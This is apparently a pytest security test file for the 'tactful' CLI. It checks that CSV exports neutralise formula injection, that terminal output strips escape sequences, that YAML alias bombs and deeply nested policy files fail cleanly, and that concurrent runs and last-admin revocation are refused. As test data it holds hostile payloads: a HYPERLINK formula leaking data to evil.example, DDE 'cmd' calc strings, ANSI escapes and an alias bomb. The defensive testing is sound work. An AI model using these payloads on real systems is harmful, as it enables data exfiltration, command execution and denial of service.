"""Issue 14's attacks on what the CLI writes and reads: formulas in CSV files, two ``tactful qa`` runs
into one folder, hostile policy files and database URLs, escape sequences printed to a terminal."""

from __future__ import annotations

import csv
import json
import signal
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from tactful.cli import main
from tactful.store import open_store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
REFUSAL = "Unfortunately we can't refund order 7 because it is past our 30-day window. I can offer credit."


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def _qa(export: Path, out: Path, *extra: str) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "tactful", "qa", str(export), "--from", "jsonl", "--out", str(out)]
    return subprocess.Popen([*command, *extra], stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _export(path: Path, conversations: int, agent: str = "sam") -> Path:
    with open(path, "w", encoding="utf-8") as f:
        for i in range(conversations):
            messages = [
                {"role": "customer", "text": f"I want a refund for order {i}."},
                {"role": "agent", "author": agent if i == 0 else f"agent{i % 3}", "text": REFUSAL},
            ]
            f.write(json.dumps({"id": f"c{i}", "messages": messages}) + "\n")
    return path


# ── 2. CSV formula injection ─────────────────────────────────────────────────────────────


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_a_formula_is_text(start: str) -> None:
    from tactful.sanitize import csv_cell

    assert csv_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    assert csv_cell(f"sam {start}1") == f"sam {start}1"  # only the first character matters
    assert csv_cell(-3.5) == -3.5 and csv_cell("-3.5") == "-3.5" and csv_cell(None) is None


def test_qa_agents_csv_holds_no_live_formula(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert run("qa", str(_export(tmp_path / "e.jsonl", 4, agent=FORMULA)), "--from", "jsonl",
               "--out", str(out), "--workers", "1").exit_code == 0  # fmt: skip
    with open(out / "agents.csv", newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_report_csv_holds_no_live_formula(tmp_path: Path) -> None:
    db = str(tmp_path / "s.db")
    with open_store(db) as store:
        store.log_reply("c-1", REFUSAL, agent=FORMULA)
        store.log_reply("c-2", REFUSAL, agent="@SUM(1+1)*cmd|' /C calc'!A0")
    path = tmp_path / "agents.csv"
    printed = run("report", "scores_by_agent", "--csv", str(path), "--format", "csv", "--db", db).output
    for text in (path.read_text(encoding="utf-8"), printed):
        cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
        assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


# ── 3. two tactful qa runs into one --out ────────────────────────────────────────────────


def test_a_second_qa_run_into_a_busy_folder_is_refused_and_nothing_is_duplicated(tmp_path: Path) -> None:
    export = _export(tmp_path / "e.jsonl", 400)
    out = tmp_path / "out"
    first = _qa(export, out, "--chunk-size", "10", "--workers", "1")
    log = out / ".tactful-qa" / "progress.jsonl"
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not (log.exists() and log.stat().st_size > 0):
        time.sleep(0.02)
    first.send_signal(signal.SIGSTOP)  # mid-run, holding the folder: the second run starts now
    try:
        second = _qa(export, out, "--chunk-size", "10", "--workers", "1")
        _, err = second.communicate(timeout=120)
    finally:
        first.send_signal(signal.SIGCONT)
    assert second.returncode == 2, err
    assert b"another tactful qa (pid " in err and str(first.pid).encode() in err
    _, err = first.communicate(timeout=120)
    assert first.returncode == 0, err
    again = _qa(export, out, "--chunk-size", "10", "--workers", "1")  # a rerun after it: nothing new
    assert again.wait(120) == 0
    lines = (out / "turns.jsonl").read_text(encoding="utf-8").splitlines()
    keys = [(t["conversation"], t["turn"]) for t in map(json.loads, lines)]
    assert len(keys) == len(set(keys)) == 400


# ── 10. escape sequences printed to a terminal ───────────────────────────────────────────


def test_control_characters_are_shown_not_run_by_the_terminal() -> None:
    from tactful.sanitize import for_terminal

    shown = for_terminal("C-1\x1b[2J\x1b]0;pwned\x07 ok\r\x9b31m")
    assert shown == "C-1\ufffd[2J\ufffd]0;pwned\ufffd ok \ufffd31m"  # one for one: offsets hold
    assert for_terminal("two\nlines\tand a tab") == "two\nlines\tand a tab"


def test_store_listings_print_no_escape_sequences(tmp_path: Path) -> None:
    db = str(tmp_path / "s.db")
    evil = "C-1\x1b[2J\x1b]0;owned\x07\x9b31m"
    with open_store(db) as store:
        store.log_reply(evil, "We can't refund this. I'll call you tomorrow.", agent="sam\x1b[5m")
        yesterday = datetime.now(timezone.utc) - timedelta(days=1)
        store.add_followup(evil, yesterday, "call back\x1b[5m", owner="sam\x1b[5m")
        store.add_user("eve\x1b]0;admin\x07", "agent")
    for args in (("followups", "due"), ("history", evil), ("users", "list")):
        result = run(*args, "--db", db)
        assert result.exit_code == 0, (args, result.output)
        assert not any(c in result.output for c in "\x1b\x07\x9b"), (args, result.output)
    assert "C-1\ufffd[2J\ufffd]0;owned\ufffd\ufffd31m" in run("history", evil, "--db", db).output
    for args in (("history", evil, "--format", "json"), ("followups", "due", "--format", "json")):
        printed = run(*args, "--db", db).output
        assert not any(c in printed for c in "\x1b\x07\x9b") and json.dumps(evil)[1:-1] in printed


# ── 9. policy files and database URLs: one line, exit 2 ──────────────────────────────────


def _policy(folder: Path, front_matter: str) -> Path:
    folder.mkdir()
    (folder / "refunds.md").write_text(
        f"---\n{front_matter}\n---\nRefunds within 30 days.\n", encoding="utf-8"
    )
    return folder


# Nine levels of nine aliases each: 9**9 strings once expanded, from under a kilobyte of YAML.
_LEVELS = ["a: &a [x, x, x, x, x, x, x, x, x]"] + [
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
]
ALIAS_BOMB = "\n".join(
    ["id: refund-window", "title: Refunds", "request_types: [refund]", *_LEVELS, "conditions: *i"]
)


@pytest.mark.parametrize(
    ("front_matter", "message"),
    [
        (ALIAS_BOMB, "aliases"),
        ("id: deep\ntitle: Deep\nrequest_types: [refund]\nconditions: " + "[" * 5000 + "]" * 5000, "deep"),
    ],
    ids=["alias bomb", "5000 levels"],
)
def test_hostile_policy_files_are_one_line_each(tmp_path: Path, front_matter: str, message: str) -> None:
    """``kb check`` lists it as a problem (FILE:LINE, exit 1, as it lists every problem); a command
    that loads the policies (here ``kb decide``; ``serve --kb`` too) stops on it: one line, exit 2."""
    folder = _policy(tmp_path / "kb", front_matter)
    for command, code in (
        (["kb", "check", str(folder)], 1),
        (["kb", "decide", str(folder), "--type", "refund"], 2),
    ):
        started = time.perf_counter()
        proc = subprocess.run([sys.executable, "-m", "tactful", *command], capture_output=True, timeout=120)
        assert time.perf_counter() - started < 60
        said = (proc.stdout + proc.stderr).decode()
        assert proc.returncode == code, said
        assert "Traceback" not in said and len(said.strip().splitlines()) == 1, said
        assert f"{folder / 'refunds.md'}:" in said and message in said


def test_an_unsupported_database_url_is_one_line_and_exit_2() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "tactful", "history", "C", "--db", "mysql://x"],
        capture_output=True,
        timeout=120,
    )
    err = proc.stderr.decode()
    assert proc.returncode == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "mysql://x" in err and "SQLite or PostgreSQL" in err


# ── 11. the last admin ──────────────────────────────────────────────────────────────────


def test_the_cli_will_not_revoke_the_last_admin(tmp_path: Path) -> None:
    db = str(tmp_path / "s.db")
    assert run("users", "add", "root", "--role", "admin", "--db", db).exit_code == 0
    proc = subprocess.run(
        [sys.executable, "-m", "tactful", "users", "revoke", "root", "--db", db],
        capture_output=True,
        timeout=120,
    )
    assert (
        proc.returncode == 2 and b"root is the last admin" in proc.stderr and b"Traceback" not in proc.stderr
    )
    assert run("users", "add", "deputy", "--role", "admin", "--db", db).exit_code == 0
    assert run("users", "revoke", "root", "--db", db).exit_code == 0
